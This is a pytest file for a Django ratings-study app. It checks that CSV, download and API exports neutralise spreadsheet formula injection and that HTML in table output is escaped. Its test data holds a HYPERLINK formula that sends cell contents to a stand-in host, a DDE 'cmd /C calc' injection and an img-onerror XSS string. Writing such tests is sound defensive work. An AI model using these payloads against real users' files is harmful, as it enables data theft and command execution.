"""Every CSV export escapes formula cells; the tidy ratings round trip stays exact."""
import csv
import io

import pytest
from django.core.management import call_command

from analysis.tables import render_comparison, render_frame
from evaluation.csv_cells import FORMULA_STARTS
from evaluation.models import Rater, Response, Study, StudyItem

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def formula_cells(text):
    """Cells a spreadsheet would run (plain numbers are not formulas)."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def test_tidy_export_escapes_hostile_ids_and_descriptions_and_imports_back_exactly(toy_study, tmp_path):
    first_response, second_response = Response.objects.filter(study=toy_study).order_by("pk")[:2]
    first_response.external_id = LINK  # an MTurk assignment id as a forged frame would send it
    first_response.save()
    second_response.external_id = "@SUM(1+1)*cmd"  # a Prolific session id
    second_response.save()
    rater = first_response.rater
    rater.external_id = "-cmd|' /C calc'!A0"
    rater.save()
    item = StudyItem.objects.filter(study_neuron__study=toy_study).order_by("pk").first()
    item.text = LINK
    item.save()
    StudyItem.objects.filter(pk=StudyItem.objects.filter(study_neuron__study=toy_study).order_by("pk")[1].pk).update(
        text="'already quoted")

    first = tmp_path / "first.csv"
    call_command("export_ratings", "--study", toy_study.name, str(first))
    written = first.read_text()
    assert formula_cells(written) == []
    assert "'" + LINK.replace('"', '""') in written

    call_command("import_ratings", str(first), "--study", "copy", "--create")
    copy = Study.objects.get(name="copy")
    assert Response.objects.filter(study=copy, external_id=LINK).exists()
    assert Response.objects.filter(study=copy, external_id="@SUM(1+1)*cmd").exists()
    assert Rater.objects.filter(study=copy, external_id="-cmd|' /C calc'!A0").exists()
    assert set(StudyItem.objects.filter(study_neuron__study=copy).values_list("text", flat=True)) >= {
        LINK, "'already quoted"}
    second = tmp_path / "second.csv"
    call_command("export_ratings", "--study", "copy", str(second))
    assert second.read_text().replace("copy", "toy-study") == written.replace("copy", "toy-study")


def test_line_breaks_in_descriptions_and_ids_survive_export_and_import(toy_study, tmp_path):
    response = Response.objects.filter(study=toy_study).order_by("pk").first()
    response.external_id = "session\r\nwith breaks"
    response.save()
    Rater.objects.filter(pk=response.rater_id).update(external_id="worker\rid")
    item = StudyItem.objects.filter(study_neuron__study=toy_study).order_by("pk").first()
    StudyItem.objects.filter(pk=item.pk).update(text="red\rround\nshapes\r\n")

    first = tmp_path / "first.csv"
    call_command("export_ratings", "--study", toy_study.name, str(first))
    call_command("import_ratings", str(first), "--study", "copy", "--create")
    copy = Study.objects.get(name="copy")
    assert Response.objects.filter(study=copy, external_id="session\r\nwith breaks").exists()
    assert Rater.objects.filter(study=copy, external_id="worker\rid").exists()
    assert StudyItem.objects.filter(study_neuron__study=copy, text="red\rround\nshapes\r\n").exists()
    assert Response.objects.filter(study=copy).count() == Response.objects.filter(study=toy_study).count()
    second = tmp_path / "second.csv"
    call_command("export_ratings", "--study", "copy", str(second))
    assert second.read_bytes().replace(b"copy", b"toy-study") == first.read_bytes()


def test_download_and_api_exports_escape_the_same_cells(toy_study, client, django_user_model):
    response = Response.objects.filter(study=toy_study).order_by("pk").first()
    response.external_id = LINK
    response.save()
    user = django_user_model.objects.create_superuser("boss", password="pw-long-enough-1")
    client.force_login(user)
    page = b"".join(client.get(f"/studies/{toy_study.name}/responses.csv").streaming_content).decode()
    api = b"".join(client.get(f"/api/v1/studies/{toy_study.name}/ratings/").streaming_content).decode()
    assert formula_cells(page) == [] and formula_cells(api) == []
    assert page == api
    assert "'" + LINK.replace('"', '""') in page


def test_table_csv_escapes_a_hostile_method_name_and_keeps_numbers(toy_study):
    import pandas as pd

    table = pd.DataFrame({"method": [LINK, "beta"], "mean": [3.5, 2.25], "difference": [-1.25, 0.5], "n": [4, 4]})
    text = render_frame(table, "csv")
    assert formula_cells(text) == []
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert ",-1.25," in text
    from analysis.services import comparison_for_study

    comparison = render_comparison(comparison_for_study(toy_study, n_resamples=50), "csv")
    assert formula_cells(comparison) == []


def test_markdown_and_html_tables_show_html_in_names_as_text():
    import pandas as pd

    table = pd.DataFrame({"method": ["<img src=x onerror=alert(1)>", "a|b"], "mean": [3.5, 2.0]})
    markdown = render_frame(table, "md")
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown and "a\\|b" in markdown
    html = render_frame(table, "html")
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_ratings_import_refuses_a_method_name_that_is_not_a_slug(toy_study, tmp_path):
    from django.core.management import CommandError

    path = tmp_path / "ratings.csv"
    call_command("export_ratings", "--study", toy_study.name, str(path))
    text = path.read_text()
    path.write_text(text.replace(",alpha,", ",<img src=x>,", 1))
    with pytest.raises(CommandError, match=r"row 2: method '<img src=x>' is not a slug"):
        call_command("import_ratings", str(path), "--study", "hostile", "--create")
    assert not Study.objects.filter(name="hostile").exists()
